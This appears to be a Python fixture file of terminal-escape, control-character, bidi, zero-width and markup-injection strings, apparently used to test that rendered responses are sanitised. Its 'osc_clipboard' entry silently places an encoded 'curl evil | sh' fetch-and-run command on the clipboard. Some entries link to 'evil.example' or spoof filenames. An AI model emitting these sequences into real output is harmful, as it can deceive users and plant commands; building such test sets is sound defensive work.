"""Texts that a terminal, a markup parser or a layout would rather not see in a response."""

from __future__ import annotations

PAYLOADS = {
    "csi_colour": "\x1b[31mred",
    "csi_clear": "\x1b[2J\x1b[H",
    "csi_cursor": "\x1b[10;10H\x1b[5A",
    "csi_private_mode": "\x1b[?1049l\x1b[?25l",
    "osc_title": "\x1b]0;title\x07",
    "osc_title_st": "\x1b]2;title\x1b\\",
    "osc_link": "\x1b]8;;http://evil.example\x1b\\text\x1b]8;;\x1b\\",
    "osc_clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "osc_clipboard_tmux": "\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\",
    "dcs": "\x1bP1$r0m\x1b\\",
    "reset": "\x1bc",
    "device_status": "\x1b[6n\x1b[c\x1b[>c",
    "charset_shift": "\x0e\x0f\x1b(0",
    "c1_csi": "\x9b31m",
    "c1_osc": "\x9d52;c;ZXZpbA==\x9c",
    "c1_all": "".join(chr(code) for code in range(0x80, 0xA0)),
    "c0_all": "".join(chr(code) for code in range(0x20) if chr(code) not in "\n\r") + "\x7f",
    "backspaces": "safe\x08\x08\x08\x08evil",
    "carriage_return": "safe\rEVIL",
    "bidi_override": "user\u202egnp.exe\u202c",
    "bidi_isolate": "a\u2066b\u2067c\u2068d\u2069\u200e\u200f\u061c",
    "tags": "x" + "".join(chr(0xE0000 + ord(letter)) for letter in "hidden") + "\U000e007f",
    "zero_width": "pay\u200bpal\ufeff\u2060\u00ad",
    "separators": "a\u2028b\u2029c\x85d\x0b\x0ce",
    "annotation": "\ufff9a\ufffab\ufffb",
    "markup_close": "[/]",
    "markup_close_name": "[/foo][/bold]",
    "markup_click": "[@click=app.quit]x[/]",
    "markup_link": "[link=http://evil.example]x[/link]",
    "markup_open": "[bold red on blue]x",
    "markup_half": "[[[\\[/ [$ [#",
    "emoji": "👩\u200d💻 🏴\U000e0067\U000e0062\U000e007f ☀\ufe0f é\u0301\u0301\u0301",
    "long_word": "x" * 3000,
    "wide_word": "漢" * 2000,
}
"""Whatever is text in UTF-8. `SURROGATES` are no UTF-8 and reach only what takes a str."""

SURROGATES = {"lone_high": "a\ud800b", "lone_low": "\udfff", "reversed": "\udc00\ud800"}
